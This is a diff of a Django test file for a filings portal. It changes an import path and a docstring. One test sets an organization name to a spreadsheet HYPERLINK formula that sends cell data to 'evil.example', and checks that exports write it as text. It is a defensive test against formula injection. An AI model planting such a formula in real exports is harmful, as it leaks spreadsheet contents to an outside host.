@@ -16,7 +16,8 @@ from django.urls import reverse
 from django.utils import translation
 from pypdf import PdfReader
 
-from filings import attachments, obligations, reminders, services
+from filings import obligations, reminders, services
+from filings.documents import attachments
 from filings.law import materials
 from filings.models import (
     CorrectionOrder,
@@ -534,7 +535,7 @@ def test_the_overdue_list_shows_the_reviewers_jurisdiction_only_and_exports(
 def test_the_overdue_exports_write_a_name_like_a_formula_as_text(
     client, city_reviewer, late_organizations
 ):
-    """Every spreadsheet the portal writes goes through filings.spreadsheets (issue 30)."""
+    """Every spreadsheet the portal writes goes through filings.documents.spreadsheets (#30)."""
     shenzhen = late_organizations[0].organization
     shenzhen.name = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
     shenzhen.save(update_fields=["name"])
